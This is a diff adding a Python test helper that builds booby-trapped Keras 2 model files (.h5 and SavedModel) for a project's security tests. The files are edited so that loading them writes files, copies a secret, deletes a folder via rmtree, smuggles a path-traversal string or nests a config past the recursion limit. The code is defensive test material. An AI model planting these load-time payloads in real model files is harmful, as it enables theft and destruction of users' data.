@@ -1,0 +1,217 @@
+"""Builds the Keras 2 attack files of tests/test_security.py (issue 10).
+
+Run: python tests/keras2_attacks.py SPEC_JSON
+
+Runs under tf_keras (TF_USE_LEGACY_KERAS=1, set below before TensorFlow is
+imported), in a child of pytest: importing tf_keras in the pytest process
+would switch it to Keras 2. SPEC_JSON names the folder to write into and the
+absolute paths the attacks aim at (markers, a secret, a decoy folder); every
+path is baked into the files, so the tests copy a file elsewhere and still
+watch the same marker. Prints one JSON line: what was built and notes.
+
+Every attack is a small legitimate model edited afterwards with h5py or the
+SavedModel metadata proto, the way an attacker would: tf_keras records a
+`TFOpLambda` call with constant arguments as
+
+    {"class_name": "TFOpLambda",
+     "config": {"name": ..., "trainable": true, "dtype": "float32", "function": "math.add"},
+     "name": ...,
+     "inbound_nodes": [["fc", 0, 0, {"y": 1.0}]]}
+
+(one flat list per call: the first call argument, then the other arguments
+as kwargs), and a first argument that is not a Keras tensor as
+`["_CONSTANT_VALUE", -1, value, kwargs]`; `tf_keras.src.engine.functional.
+process_node` then calls `tf.<function>(value, **kwargs)` eagerly while the
+model is rebuilt.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import sys
+from pathlib import Path
+
+os.environ["TF_USE_LEGACY_KERAS"] = "1"
+os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
+sys.dont_write_bytecode = True
+
+import h5py  # noqa: E402
+import tensorflow as tf  # noqa: E402
+import tf_keras  # noqa: E402
+from tf_keras.protobuf import saved_metadata_pb2  # noqa: E402
+
+L = tf_keras.layers
+
+
+def legit() -> tf_keras.Model:
+    """A Functional MLP with the three common recorded `tf.*` calls (Keras 2 only)."""
+    inp = tf_keras.Input((4,), name="features")
+    x = L.Dense(4, activation="relu", name="fc")(inp)
+    x = tf.math.add(x, 1.0)  # TFOpLambda "math.add", kwargs {"y": 1.0}
+    x = x[:, 1:3]  # SlicingOpLambda "__operators__.getitem", a slice_spec
+    x = tf.reshape(x, (-1, 2, 1))  # TFOpLambda "reshape", kwargs {"shape": [-1, 2, 1]}
+    x = L.Flatten(name="flat")(x)
+    x = L.Dense(4, activation="relu", name="hidden")(x)
+    out = L.Dense(1, name="out")(x)
+    model = tf_keras.Model(inp, out, name="legit_oplambda")
+    model.compile(optimizer="adam", loss="mse")
+    return model
+
+
+def vocab_model(vocabulary: str) -> tf_keras.Model:
+    """StringLookup reading its vocabulary from a file path, plus a `tf.cast` (Keras 2 only)."""
+    inp = tf_keras.Input((3,), dtype="string", name="tokens")
+    x = L.StringLookup(vocabulary=vocabulary, name="lookup")(inp)
+    x = tf.cast(x, "float32")
+    x = L.Dense(4, activation="relu", name="fc")(x)
+    out = L.Dense(1, name="out")(x)
+    return tf_keras.Model(inp, out, name="vocab_model")
+
+
+def op_layer(name: str, function: str, inbound: list) -> dict:
+    return {
+        "class_name": "TFOpLambda",
+        "config": {"name": name, "trainable": True, "dtype": "float32", "function": function},
+        "name": name,
+        "inbound_nodes": inbound,
+    }
+
+
+def constant_call(first, **kwargs) -> list:
+    """One call with a constant first argument, as tf_keras writes it."""
+    return [["_CONSTANT_VALUE", -1, first, {"name": None, **kwargs}]]
+
+
+def edit_h5_config(path: Path, edit, *, replace: tuple[str, str] = ("", "")) -> None:
+    with h5py.File(path, "r+") as f:
+        config = json.loads(f.attrs["model_config"])
+        edit(config)
+        # `replace` puts in text that json.dumps cannot write (nesting deeper than the
+        # recursion limit).
+        f.attrs["model_config"] = json.dumps(config).replace(*replace)
+
+
+def edit_savedmodel_config(folder: Path, edit) -> None:
+    """Edits the Functional config of the root object in `keras_metadata.pb`."""
+    meta = saved_metadata_pb2.SavedMetadata()
+    meta.ParseFromString((folder / "keras_metadata.pb").read_bytes())
+    for node in meta.nodes:
+        if node.node_path == "root":
+            data = json.loads(node.metadata)
+            edit(data["config"])
+            node.metadata = json.dumps(data)
+            break
+    else:
+        raise SystemExit("no root node in keras_metadata.pb")
+    (folder / "keras_metadata.pb").write_bytes(meta.SerializeToString())
+
+
+def append(*layers):
+    def edit(config):
+        # An `.h5` holds {"class_name": "Functional", "config": {...}}; the
+        # SavedModel root metadata's "config" is the inner dict itself.
+        config.get("config", config)["layers"].extend(layers)
+
+    return edit
+
+
+class MarkerResource(tf.saved_model.experimental.TrackableResource):
+    """A resource whose initializer, traced into the SavedModel, writes a file."""
+
+    def __init__(self, marker: str):
+        super().__init__()
+        self._marker = marker
+
+    def _create_resource(self):
+        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="")
+
+    def _initialize(self):
+        tf.io.write_file(self._marker, "pwned by a SavedModel resource initializer")
+        return tf.raw_ops.AssignVariableOp(resource=self.resource_handle, value=1.0)
+
+
+def main() -> None:
+    spec = json.loads(sys.argv[1])
+    out, markers = Path(spec["out"]), Path(spec["markers"])
+    out.mkdir(parents=True, exist_ok=True)
+    tf_keras.utils.set_random_seed(0)
+
+    base = out / "legit_oplambda.h5"
+    legit().save(base)
+
+    def variant(name: str, edit, **kwargs) -> None:
+        shutil.copyfile(base, out / name)
+        edit_h5_config(out / name, edit, **kwargs)
+
+    variant(
+        "tfop_write.h5",
+        append(
+            op_layer(
+                "evil",
+                "io.write_file",
+                constant_call(str(markers / "tfop_write"), contents="pwned"),
+            )
+        ),
+    )
+    variant(
+        "tfop_copy.h5",
+        append(
+            op_layer(
+                "evil_copy",
+                "io.gfile.copy",
+                constant_call(spec["secret"], dst=str(markers / "tfop_copy"), overwrite=True),
+            )
+        ),
+    )
+    variant(
+        "tfop_rmtree.h5",
+        append(op_layer("evil_rmtree", "io.gfile.rmtree", constant_call(spec["decoy"]))),
+    )
+    # An allowed op whose constant argument is a string, not a number.
+    variant(
+        "tfop_string_const.h5",
+        append(
+            op_layer("add_text", "math.add", [["fc", 0, 0, {"y": "../../secret", "name": None}]])
+        ),
+    )
+
+    # A config nested deeper than Python's recursion limit, in a Keras 2 file.
+    def deep(config):
+        for layer in config["config"]["layers"]:
+            if layer["name"] == "hidden":
+                layer["config"]["deep"] = "DEEP"
+
+    variant("deep_config.h5", deep, replace=('"DEEP"', "[" * 5000 + "1.0" + "]" * 5000))
+
+    # The same write in a SavedModel's keras_metadata.pb.
+    legit().save(out / "sm_legit", save_format="tf")
+    shutil.copytree(out / "sm_legit", out / "sm_tfop")
+    edit_savedmodel_config(
+        out / "sm_tfop",
+        append(
+            op_layer(
+                "evil", "io.write_file", constant_call(str(markers / "sm_tfop"), contents="pwned")
+            )
+        ),
+    )
+
+    # A SavedModel tracking a resource whose initializer writes a file.
+    model = legit()
+    model.marker_resource = MarkerResource(str(markers / "sm_resource"))
+    model.save(out / "sm_resource", save_format="tf")
+    stray = markers / "sm_resource"
+    built_marker = stray.exists()  # saving traces, but must not run, the initializer
+    stray.unlink(missing_ok=True)
+
+    # StringLookup reading a local file as its vocabulary.
+    vocab_model(spec["vocab"]).save(out / "vocab_file.h5")
+
+    notes = {"resource_marker_at_save": built_marker}
+    files = sorted(p.name for p in out.iterdir())
+    print(json.dumps({"files": files, "notes": notes}))
+
+
+if __name__ == "__main__":
+    main()
